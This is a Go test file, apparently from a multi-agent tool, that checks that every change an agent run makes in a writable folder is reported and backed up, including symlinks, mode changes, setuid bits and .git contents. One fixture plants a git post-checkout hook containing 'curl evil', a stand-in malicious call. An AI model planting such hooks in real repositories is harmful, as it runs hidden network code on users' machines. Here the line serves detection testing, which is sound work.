package app

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/massgen/massgen/internal/workspace"
)

// Finding 4 of issue 17: the change report must list every change in a
// write context path, of every kind, hidden names, .git and .massgen
// included, and leave out only the run's own files.
func TestContextChangesListEveryKind(t *testing.T) {
	p, _ := filepath.EvalSymlinks(t.TempDir())
	outside := t.TempDir()
	must(t, os.WriteFile(filepath.Join(outside, "host.txt"), []byte("host"), 0o644))
	j := func(parts ...string) string { return filepath.Join(append([]string{p}, parts...)...) }
	// Before the presentation.
	must(t, os.MkdirAll(j("gone", "deeper"), 0o755))
	must(t, os.WriteFile(j("gone", "deeper", "x.txt"), []byte("x"), 0o644))
	must(t, os.WriteFile(j("run.sh"), []byte("echo\n"), 0o644))
	must(t, os.WriteFile(j("main.go"), []byte("package main\n"), 0o644))
	must(t, os.Symlink("main.go", j("oldlink")))
	must(t, os.MkdirAll(j("sub", ".git"), 0o755))
	must(t, os.MkdirAll(j("private"), 0o755))
	logDir := j(".massgen", "massgen_logs", "log_1")
	ownWS := j(".massgen", "workspaces", "run1")
	must(t, os.MkdirAll(logDir, 0o755))
	must(t, os.MkdirAll(ownWS, 0o755))

	w := newContextWatch([]workspace.ContextPath{{Path: p, Write: true}}, ownWS)
	w.logDir = logDir
	w.start("winner")

	// What the presenter (or a command of its) does.
	must(t, os.WriteFile(j(".massgen", "config.yaml"), []byte("agents: []\n"), 0o644))
	must(t, os.MkdirAll(j("sub", ".git", "hooks"), 0o755))
	must(t, os.WriteFile(j("sub", ".git", "hooks", "post-checkout"), []byte("#!/bin/sh\ncurl evil\n"), 0o755))
	must(t, os.Symlink(filepath.Join(outside, "host.txt"), j("newlink")))
	must(t, os.Symlink(outside, j("dirlink")))
	must(t, os.Chmod(j("run.sh"), 0o755))
	must(t, os.Chmod(j("private"), 0o700))
	must(t, os.RemoveAll(j("gone")))
	must(t, os.WriteFile(j(".hidden"), []byte("h"), 0o600))
	must(t, os.WriteFile(j("main.go"), []byte("package main // v2\n"), 0o644))
	must(t, os.Remove(j("oldlink")))
	must(t, os.Symlink("run.sh", j("oldlink")))
	// The run's own files change too: never listed.
	must(t, os.WriteFile(filepath.Join(logDir, "status.json"), []byte("{}"), 0o644))
	must(t, os.WriteFile(filepath.Join(ownWS, "answer.txt"), []byte("a"), 0o644))
	w.stop("winner")

	got := w.changes()
	sep := string(filepath.Separator)
	want := []string{
		"added    " + j(".hidden"),
		"added    " + j(".massgen", "config.yaml"),
		"added    " + j("dirlink") + " -> " + outside,
		"deleted  " + j("gone") + sep,
		"deleted  " + j("gone", "deeper") + sep,
		"deleted  " + j("gone", "deeper", "x.txt"),
		"modified " + j("main.go"),
		"added    " + j("newlink") + " -> " + filepath.Join(outside, "host.txt"),
		"modified " + j("oldlink") + " -> run.sh (was -> main.go)",
		"mode     " + j("private") + sep + " 0755 -> 0700",
		"mode     " + j("run.sh") + " 0644 -> 0755",
		"added    " + j("sub", ".git", "hooks") + sep,
		"added    " + j("sub", ".git", "hooks", "post-checkout"),
		"the originals of " + p + " are in " + filepath.Join(logDir, "final", "winner", "context_backup", "1_"+filepath.Base(p)),
		"(what was in .git and node_modules directories, and symbolic links, is listed but not in the backup)",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("changes:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, line := range got {
		if strings.HasPrefix(line, "the originals") {
			continue
		}
		if strings.Contains(line, "massgen_logs") || strings.Contains(line, "workspaces") || strings.Contains(line, "host.txt"+sep) {
			t.Errorf("listed the run's own file or went through a link: %s", line)
		}
	}
	// The backup holds the originals, by the same walk as the snapshots:
	// no link, nothing of the run's own logs (the backup itself is there).
	bk := filepath.Join(logDir, "final", "winner", "context_backup", "1_"+filepath.Base(p))
	for rel, content := range map[string]string{"main.go": "package main\n", filepath.Join("gone", "deeper", "x.txt"): "x", "run.sh": "echo\n"} {
		if b, err := os.ReadFile(filepath.Join(bk, rel)); err != nil || string(b) != content {
			t.Errorf("backup of %s: %q, %v", rel, b, err)
		}
	}
	if _, err := os.Lstat(filepath.Join(bk, "oldlink")); !os.IsNotExist(err) {
		t.Errorf("a link in the backup: %v", err)
	}
	for _, own := range []string{filepath.Join(".massgen", "massgen_logs", "log_1"), filepath.Join(".massgen", "workspaces", "run1")} {
		if _, err := os.Lstat(filepath.Join(bk, own)); !os.IsNotExist(err) {
			t.Errorf("the run's own %s in the backup: %v", own, err)
		}
	}
	if _, err := os.Lstat(filepath.Join(bk, "sub", ".git")); !os.IsNotExist(err) {
		t.Errorf("a .git directory in the backup: %v", err)
	}
}

// Replacing an entry by one of another kind, and files with other modes
// than perms (setuid), are reported as such; an unchanged tree reports
// nothing.
func TestContextChangesReplacedAndUnchanged(t *testing.T) {
	p, _ := filepath.EvalSymlinks(t.TempDir())
	must(t, os.WriteFile(filepath.Join(p, "a"), []byte("a"), 0o644))
	must(t, os.MkdirAll(filepath.Join(p, "d"), 0o755))
	must(t, os.WriteFile(filepath.Join(p, "s"), []byte("s"), 0o755))
	w := newContextWatch([]workspace.ContextPath{{Path: p, Write: true}})
	w.start("x")
	w.stop("x")
	if got := w.changes(); len(got) != 0 {
		t.Fatalf("an unchanged tree: %q", got)
	}
	w.start("x")
	must(t, os.Remove(filepath.Join(p, "a")))
	must(t, os.Symlink("d", filepath.Join(p, "a")))
	must(t, os.Remove(filepath.Join(p, "d")))
	must(t, os.WriteFile(filepath.Join(p, "d"), nil, 0o644))
	must(t, os.Chmod(filepath.Join(p, "s"), 0o755|os.ModeSetuid))
	w.stop("x")
	want := []string{
		"replaced " + filepath.Join(p, "a") + " (a file, now a link -> d)",
		"replaced " + filepath.Join(p, "d") + " (a directory, now a file)",
		"mode     " + filepath.Join(p, "s") + " 0755 -> 4755",
	}
	if got := w.changes(); !slices.Equal(got, want) {
		t.Errorf("changes:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
